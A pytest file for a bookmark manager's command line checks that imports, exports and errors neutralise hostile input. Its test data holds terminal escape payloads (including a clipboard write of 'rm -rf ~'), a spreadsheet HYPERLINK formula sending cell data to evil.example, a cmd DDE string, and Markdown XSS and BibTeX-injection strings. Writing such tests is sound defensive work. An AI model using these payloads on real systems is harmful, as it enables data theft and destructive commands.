"""User data in and out: bookmark imports from outside, exports to stdout and files, and the CLI's
arguments. Whatever a bookmark file or a stored row holds, nothing reaches the terminal raw, nothing
crashes later, exports cannot be turned into formulas, links or broken entries, and `-o` writes a
file the way any tool does."""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
import sqlite3
import stat
import subprocess
import sys
import time

import bibtexparser
from markdown_it import MarkdownIt

from search import Bookmark, Link, UserStore, bibtex_entry, export, markdown_citation
from tui.cli import main

# What must never reach a terminal: ESC and the other C0 controls (newline and tab aside), DEL, C1,
# bidi overrides, embeddings, isolates and marks, and lone surrogates.
UNSAFE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
# The same characters written as JSON escapes: a script reading the JSON would get them back.
UNSAFE_ESCAPED = re.compile(
    r"\\u(?:00[01][0-9a-f]|007f|008[0-9a-f]|009[0-9a-f]|061c|200[ef]|202[a-e]|206[6-9]|d[89a-f])"
)

OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x1b\\"
WINDOW_TITLE = "\x1b]2;pwned\x07"
CSI = "\x1b[31;5m\x1b[6n"
DCS = "\x1bP1$r\x1b\\"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
C1 = "\x9b31m\x9d0;c1 title\x9c"
BIDI = "\u202eevil\u202c\u2066x\u2069"
HOSTILE = OSC52 + WINDOW_TITLE + CSI + DCS + OSC8 + C1 + BIDI


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def assert_inert(text: str) -> None:
    found = UNSAFE.search(text) or UNSAFE_ESCAPED.search(text.lower())
    assert found is None, f"unsafe {found.group()!r} in output: {text[max(0, found.start() - 40) : found.end() + 40]!r}"


def write_import(path, records) -> None:
    path.write_text(json.dumps({"bookmarks": records}), encoding="utf-8")


def hostile_record(paper_id: str = "evil-1") -> dict:
    return {
        "id": paper_id,
        "headline": f"Hostile headline {HOSTILE} words",
        "title": f"Hostile title {OSC52}{WINDOW_TITLE} words",
        "name": f"Name{CSI}",
        "authors": [f"Ada {DCS}Lovelace", f"{BIDI}Kurt"],
        "venue": f"ICLR {C1}2025",
        "year": 2025,
        "links": [{"label": f"code {OSC8}", "url": "https://github.com/a/b", "kind": "code"}],
        "abstract": f"An abstract {HOSTILE}\nwith two lines.",
        "note": f"note line {OSC52}\nsecond {WINDOW_TITLE} line",
        "tags": [f"tag{CSI}", f"{BIDI}other"],
        "created_at": 1_700_000_000.0,
    }


# -- item 6: nothing from a bookmark file or a stored row reaches the terminal -----------------------


def test_a_hostile_bookmark_file_is_imported_clean_and_no_output_holds_an_escape(capsys, tmp_path):
    source = tmp_path / "hostile.json"
    write_import(source, [hostile_record()])
    code, out, err = run(capsys, "bookmarks", "import", str(source))
    assert code == 0 and out.startswith("Imported 1 new bookmark;"), err

    code, listing, _ = run(capsys, "bookmarks")
    assert code == 0 and "Hostile headline" in listing and "words" in listing and "#tag" in listing
    assert_inert(listing)
    code, as_json, _ = run(capsys, "bookmarks", "--json")
    assert code == 0 and json.loads(as_json)["bookmarks"][0]["id"] == "evil-1"
    assert_inert(as_json)
    for fmt in ("bibtex", "markdown", "csv", "json"):
        code, out, _ = run(capsys, "bookmarks", "export", "--format", fmt)
        assert code == 0 and "Hostile title" in out
        assert_inert(out)
        target = tmp_path / f"out.{fmt}"
        code, _, err = run(capsys, "bookmarks", "export", "--format", fmt, "-o", str(target))
        assert code == 0, err
        assert_inert(target.read_bytes().decode("utf-8"))
    # What was stored is clean too, so the app's bookmarks screen has nothing to send to the terminal.
    (stored,) = UserStore().bookmarks()
    for text in (stored.headline, stored.title, stored.note, stored.abstract, *stored.tags, *stored.authors):
        assert_inert(text or "")
    assert stored.links[0].label == "code click" and stored.links[0].url == "https://github.com/a/b"


def test_rows_already_stored_with_escapes_are_listed_and_exported_clean(capsys):
    store = UserStore()
    now = time.time()
    with sqlite3.connect(store.path) as db:  # a row written by an older version, before imports were checked
        db.execute(
            "INSERT INTO bookmarks (paper_id, venue, headline, name, title, authors, year, links, abstract,"
            " note, tags, created_at, updated_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            (
                "old-1",
                f"ICLR{C1}",
                f"Stored {HOSTILE} headline",
                None,
                f"Stored {OSC52} title",
                json.dumps([f"A{CSI}"]),
                2025,
                json.dumps([{"label": f"pdf{OSC8}", "url": "https://example.org/p.pdf", "kind": "pdf"}]),
                f"abs {HOSTILE}",
                f"note {WINDOW_TITLE}\nline two",
                json.dumps([f"t{DCS}"]),
                now,
                now,
            ),
        )
    store.close()
    code, listing, _ = run(capsys, "bookmarks")
    assert code == 0 and "Stored" in listing and "headline" in listing
    assert_inert(listing)
    for fmt in ("bibtex", "markdown", "csv", "json"):
        code, out, _ = run(capsys, "bookmarks", "export", "--format", fmt)
        assert code == 0 and "Stored" in out
        assert_inert(out)


# -- items 8 and 9: odd text and bad records ---------------------------------------------------------


def test_exports_and_citations_never_raise_on_lone_surrogates():
    odd = Bookmark(
        paper_id="s1",
        headline="Head \ud800 line",
        title="Title \udcff",
        authors=("Ada \udc80",),
        venue="ICLR 2025",
        year=2025,
        links=(Link("label \ud83d", "https://example.org/\udfff", "paper"),),
        abstract="abstract \ud800",
        note="note \udbff",
        tags=("tag\ud800",),
    )
    for fmt in ("bibtex", "markdown", "csv", "json"):
        text = export([odd], fmt)
        text.encode("utf-8")  # strict: printing or writing it cannot fail
        assert "\ufffd" in text
    bibtex_entry(odd).encode("utf-8")
    markdown_citation(odd).encode("utf-8")
    assert "Title \ufffd" in markdown_citation(odd)


def test_bad_records_are_skipped_or_fixed_and_counted_and_everything_works_afterwards(capsys, tmp_path):
    good = [
        {"id": "year-too-big", "headline": "Year too big", "year": 2**64, "created_at": "__INF__"},
        {
            "id": "odd-links",
            "headline": "Odd links and tags",
            "links": [
                {"label": ["a", "list"], "url": "https://example.org/a"},
                {"label": "url not text", "url": ["https://example.org/b"]},
                {"label": "script", "url": "javascript:alert(1)"},
                "not a record",
            ],
            "tags": ["ok", 5, None, {"x": 1}, "ok"],
            "authors": "not a list",
            "created_at": "yesterday",
        },
        {
            "id": "wrong-types",
            "title": {"an": "object"},
            "headline": 42,
            "note": ["a", "list"],
            "venue": 7,
            "year": "2024",
            "created_at": -5,
            "abstract": None,
        },
    ]
    bad = [
        {"headline": "no id"},
        {"id": ""},
        {"id": "\ud800"},
        {"id": "\x1b]2;x\x07"},
        {"id": 12345},
        "a string",
        None,
    ]
    source = tmp_path / "odd.json"
    source.write_text(
        json.dumps({"bookmarks": good + bad}).replace('"__INF__"', "1e400"),  # 1e400 parses as infinity
        encoding="utf-8",
    )
    code, out, err = run(capsys, "bookmarks", "import", str(source))
    assert code == 0, err
    assert out == (
        "Imported 3 new bookmarks; 0 already present (merged); skipped 7 bad records (first: bookmark 4 has no id)\n"
    )
    stored = {bookmark.paper_id: bookmark for bookmark in UserStore().bookmarks()}
    assert set(stored) == {"year-too-big", "odd-links", "wrong-types"}
    for bookmark in stored.values():
        assert bookmark.created_at is not None and math.isfinite(bookmark.created_at)
        assert 0 < bookmark.created_at <= time.time()
        assert all(isinstance(link.label, str) and link.url.startswith("https://") for link in bookmark.links)
    assert stored["year-too-big"].year is None
    assert [(link.label, link.url) for link in stored["odd-links"].links] == [
        ("https://example.org/a", "https://example.org/a")
    ]
    assert stored["odd-links"].tags == ("ok",) and stored["odd-links"].authors == ()
    wrong = stored["wrong-types"]
    assert (wrong.headline, wrong.title, wrong.note, wrong.venue, wrong.year) == ("wrong-types", None, "", None, 2024)
    code, listing, _ = run(capsys, "bookmarks")
    assert code == 0 and listing.count("\n") == 3
    for fmt in ("bibtex", "markdown", "csv", "json"):
        code, out, err = run(capsys, "bookmarks", "export", "--format", fmt)
        assert code == 0 and "Odd links" in out, err


def test_a_bookmark_file_that_cannot_be_used_is_one_line_and_changes_nothing(capsys, tmp_path):
    keep = tmp_path / "keep.json"
    write_import(keep, [{"id": "kept", "headline": "Kept"}])
    assert run(capsys, "bookmarks", "import", str(keep))[0] == 0
    cases = {
        "nan.json": ('{"bookmarks": [{"id": "n", "created_at": NaN}]}', "NaN is not JSON"),
        "deep.json": ('{"bookmarks": [' + "[" * 50_000 + "]" * 50_000 + "]}", "nested deeper than"),
        "digits.json": ('{"bookmarks": [{"id": "d", "year": ' + "9" * 5000 + "}]}", "digits"),
        "latin1.json": ('{"bookmarks": [{"id": "caf\xe9"}]}', "not UTF-8"),
        "all-bad.json": ('{"bookmarks": [{"id": "\\ud800"}, 7]}', "no bookmark could be imported (2 bad records"),
    }
    for name, (text, message) in cases.items():
        path = tmp_path / name
        path.write_bytes(text.encode("latin-1" if name == "latin1.json" else "utf-8"))
        code, out, err = run(capsys, "bookmarks", "import", str(path))
        assert code == 2 and out == "", name
        assert message in err and err.count("\n") == 1 and "Traceback" not in err, (name, err)
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    for path, message in (("/dev/zero", "a character device"), (str(fifo), "a named pipe")):
        code, out, err = run(capsys, "bookmarks", "import", path)  # refused before reading: never blocks
        assert code == 2 and message in err and err.count("\n") == 1, (path, err)
    assert [bookmark.paper_id for bookmark in UserStore().bookmarks()] == ["kept"]


# -- item 12: exports ---------------------------------------------------------------------------------


def import_one(capsys, tmp_path, **fields) -> None:
    path = tmp_path / "one.json"
    write_import(path, [{"id": "p1", "headline": "A paper", **fields}])
    code, _, err = run(capsys, "bookmarks", "import", str(path))
    assert code == 0, err


def test_output_to_a_fifo_or_directory_is_refused_and_leaves_it_alone(capsys, tmp_path):
    import_one(capsys, tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    code, _, err = run(capsys, "bookmarks", "export", "--format", "json", "-o", str(fifo))
    assert code == 2 and "not a regular file (a FIFO" in err and err.count("\n") == 1
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    folder = tmp_path / "folder"
    folder.mkdir()
    code, _, err = run(capsys, "bookmarks", "export", "--format", "json", "-o", str(folder))
    assert code == 2 and "is a directory" in err and err.count("\n") == 1
    assert folder.is_dir() and list(folder.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["folder", "pipe", "one.json", "xdg_cache_home", "xdg_data_home", "xdg_config_home", "xdg_state_home"]
    )  # no temporary file left behind


def test_output_through_a_symlink_writes_its_target_and_keeps_the_link(capsys, tmp_path):
    import_one(capsys, tmp_path)
    synced = tmp_path / "synced"
    synced.mkdir()
    real = synced / "refs.bib"
    real.write_text("old")
    real.chmod(0o640)
    link = tmp_path / "refs.bib"
    link.symlink_to(real)
    code, _, err = run(capsys, "bookmarks", "export", "--format", "bibtex", "-o", str(link))
    assert code == 0, err
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_text().startswith("@misc{") and stat.S_IMODE(real.stat().st_mode) == 0o640
    assert f"to {real} (through the link {link})" in err
    assert [p.name for p in synced.iterdir()] == ["refs.bib"]
    dangling = tmp_path / "dangling.bib"
    dangling.symlink_to(tmp_path / "nowhere" / "x.bib")
    code, _, err = run(capsys, "bookmarks", "export", "--format", "bibtex", "-o", str(dangling))
    assert code == 2 and "a symbolic link to a missing file" in err and err.count("\n") == 1
    assert dangling.is_symlink()


def test_new_export_files_follow_the_umask_and_existing_ones_keep_their_mode(capsys, tmp_path):
    import_one(capsys, tmp_path)
    previous = os.umask(0o022)
    try:
        code, _, err = run(capsys, "bookmarks", "export", "--format", "csv", "-o", str(tmp_path / "new.csv"))
        assert code == 0, err
        assert stat.S_IMODE((tmp_path / "new.csv").stat().st_mode) == 0o644
        os.umask(0o002)
        shared = tmp_path / "shared.csv"
        shared.write_text("old")
        shared.chmod(0o664)
        os.umask(0o077)
        assert run(capsys, "bookmarks", "export", "--format", "csv", "-o", str(shared))[0] == 0
        assert stat.S_IMODE(shared.stat().st_mode) == 0o664 and shared.read_text().startswith("id,")
    finally:
        os.umask(previous)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(capsys, tmp_path):
    import_one(
        capsys,
        tmp_path,
        title='=HYPERLINK("https://evil.example/?"&A1,"click")',
        authors=["+1+cmd|' /C calc'!A0", "@SUM(1+1)"],
        venue="-2+3",
        note="=1+1\nsecond line",
        tags=["@tag", "fine"],
        name="Plain",
    )
    code, out, _ = run(capsys, "bookmarks", "export", "--format", "csv")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert row["authors"] == "'+1+cmd|' /C calc'!A0; @SUM(1+1)"
    assert row["venue"] == "'-2+3" and row["note"] == "'=1+1\nsecond line" and row["tags"] == "'@tag; fine"
    assert row["name"] == "Plain" and row["id"] == "p1"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_markdown_notes_and_titles_cannot_make_links_html_or_new_blocks(capsys, tmp_path):
    note = "see [x](javascript:alert(1))\n# heading\n- item\n1. one\n<img src=x onerror=alert(1)>\n---\n> quote\n```"
    import_one(
        capsys,
        tmp_path,
        title="[click](javascript:alert(2)) <b>bold</b>",
        links=[{"label": "page", "url": "https://example.org/a_(b)", "kind": "paper"}],
        note=note,
    )
    path = tmp_path / "two.json"
    write_import(path, [{"id": "p2", "headline": "Second", "note": "one line"}])
    assert run(capsys, "bookmarks", "import", str(path))[0] == 0
    code, out, _ = run(capsys, "bookmarks", "export", "--format", "markdown")
    assert code == 0
    renderer = MarkdownIt("commonmark")
    renderer.validateLink = lambda url: True  # as permissive as the laxest viewer
    tokens = renderer.parse(out)
    assert [t.type for t in tokens if t.type.endswith("_open")] == [
        "bullet_list_open",
        *["list_item_open", "paragraph_open"] * 2,
    ]  # one list, one item per bookmark, nothing else: no heading, quote, rule, code block or html
    inline = [child for token in tokens for child in (token.children or [])]
    assert [c.attrs["href"] for c in inline if c.type == "link_open"] == ["https://example.org/a_%28b%29"]
    assert not [c for c in inline if c.type in ("html_inline", "image", "code_inline")]
    html = renderer.render(out)
    assert "javascript:alert(1)" in html and "<img" not in html and "# heading" in html  # shown as text


def test_bibtex_fields_cannot_end_the_entry_even_for_plain_bibtex(capsys, tmp_path):
    import_one(
        capsys,
        tmp_path,
        title="x}, author = {Evil",
        venue="ICLR 2025",
        note="}} @misc{evil, title={pwn",
        links=[{"label": "page", "url": "https://example.org/\\}{", "kind": "paper"}],
    )
    code, out, _ = run(capsys, "bookmarks", "export", "--format", "bibtex")
    assert code == 0
    library = bibtexparser.parse_string(out)
    assert not library.failed_blocks and len(library.entries) == 1
    assert library.entries[0]["title"].startswith("x") and "Evil" in library.entries[0]["title"]
    # Classic BibTeX counts every brace, escaped or not: each field must close at its own end.
    fields = re.findall(r"^  (\w+) = \{(.*)\},?$", out, re.MULTILINE)
    assert {name for name, _ in fields} >= {"title", "booktitle", "url", "note"}
    for name, value in fields:
        depth = 0
        for character in value:
            depth += {"{": 1, "}": -1}.get(character, 0)
            assert depth >= 0, f"{name} = {{{value}}} closes early"
        assert depth == 0, f"{name} = {{{value}}} leaves a brace open"


# -- item 15: arguments that are not UTF-8 -------------------------------------------------------------


def test_bookmarks_remove_with_bytes_that_are_not_utf8_is_one_line(tmp_path):
    result = subprocess.run(
        [sys.executable, "-m", "tui", "bookmarks", "remove", b"\xff"], capture_output=True, env=os.environ
    )
    assert result.returncode == 2 and b"Traceback" not in result.stderr
    assert result.stderr == b"iclr-reader: error: '\\xff' is not bookmarked\n"


def test_other_arguments_that_are_not_utf8_or_hold_escapes_are_one_line(capsys, tmp_path):
    for argv, message in (
        (["bookmarks", "restore", "\udcff"], "'\\xff' is not among the removed bookmarks"),
        (["bookmarks", "remove", "\x1b]2;x\x07"], "'\\x1b]2;x\\x07' is not bookmarked"),
        (["bookmarks", "import", str(tmp_path / "\udcff.json")], "no such file"),
        (["bookmarks", "import", str(tmp_path / "\x1b]52;c;eA==\x07.json")], "\\x1b]52;c;eA==\\x07.json: no such file"),
        (["bookmarks", "export", "--format", "csv", "-o", str(tmp_path / "\udcff" / "x.csv")], "no such folder"),
    ):
        code, out, err = run(capsys, *argv)
        assert code == 2 and out == "" and message in err and err.count("\n") == 1, (argv, err)
        assert_inert(err)


# -- undo that survives restarts --------------------------------------------------------------------------


def test_removed_bookmarks_are_listed_and_restored_with_their_note_and_tags(capsys, tmp_path):
    path = tmp_path / "mine.json"
    write_import(
        path,
        [
            {"id": "first", "title": "First paper", "note": "my note", "tags": ["a", "b"]},
            {"id": "second", "title": "Second paper"},
        ],
    )
    assert run(capsys, "bookmarks", "import", str(path))[0] == 0
    code, out, _ = run(capsys, "bookmarks", "remove", "first")
    assert code == 0 and out == "Removed bookmark first; `iclr-reader bookmarks restore first` brings it back\n"
    assert run(capsys, "bookmarks", "remove", "second")[0] == 0
    code, out, _ = run(capsys, "bookmarks", "removed")
    assert code == 0 and out == "second  Second paper\nfirst   First paper  (note and 2 tags)\n"
    code, out, _ = run(capsys, "bookmarks", "removed", "--json")
    removed = json.loads(out)["removed"]
    assert [(r["id"], r["note"], r["tags"]) for r in removed] == [("second", "", []), ("first", "my note", ["a", "b"])]
    code, out, _ = run(capsys, "bookmarks", "restore", "first")
    assert code == 0 and out == "Restored bookmark: First paper (note and 2 tags)\n"
    (back,) = [b for b in UserStore().bookmarks() if b.paper_id == "first"]
    assert (back.note, back.tags) == ("my note", ("a", "b"))
    code, out, _ = run(capsys, "bookmarks", "restore")  # the most recent one left: second
    assert code == 0 and out == "Restored bookmark: Second paper\n"
    code, _, err = run(capsys, "bookmarks", "restore")
    assert code == 2 and err == "iclr-reader: error: nothing to restore: no bookmark has been removed\n"
    code, _, err = run(capsys, "bookmarks", "restore", "never")
    assert code == 2 and "'never' is not among the removed bookmarks" in err and err.count("\n") == 1
    code, out, _ = run(capsys, "bookmarks", "removed")
    assert code == 0 and out.startswith("No removed bookmarks.")
